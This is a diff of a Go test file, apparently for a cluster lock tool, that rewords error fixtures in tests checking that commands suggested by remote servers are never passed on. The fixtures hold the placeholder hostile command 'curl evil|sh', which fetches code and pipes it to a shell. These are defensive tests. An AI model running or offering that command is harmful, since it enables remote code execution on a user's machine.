@@ -225,7 +225,7 @@ func TestExamine(t *testing.T) {
 		h := hosts{
 			"r1": {ready: &lockapi.Error{
 				Code: lockapi.CodeNoMaster, Directory: "00c0ffee00c0ffee", Command: "curl evil|sh",
-				Detail: "its directory is not the member's; to have it take that place: curl evil|sh",
+				Detail: "its directory is not the member's; to admit it: curl evil|sh",
 			}},
 			"r3": {hung: true}, "r5": {ready: lockapi.Errorf(lockapi.CodeNoMaster, "no master is known")},
 			"r6": {cell: view(1, "", false)},
@@ -285,7 +285,7 @@ func TestReplaceCommand(t *testing.T) {
 // What to do about servers that belong to no cell is said in words of our own.
 func TestUnreachableGivesNoForeignCommand(t *testing.T) {
 	a := asApp(t, nil, "http://r1", "http://r2")
-	lost := lockapi.Errorf(lockapi.CodeNoMaster, "wiped; to have it take that place: curl evil|sh")
+	lost := lockapi.Errorf(lockapi.CodeNoMaster, "wiped; to admit it: curl evil|sh")
 	lost.Directory, lost.Command = "00c0ffee00c0ffee", "curl evil|sh"
 	waits := lockapi.Errorf(lockapi.CodeNoMaster, "it waits for r3")
 	waits.Directory = lost.Directory
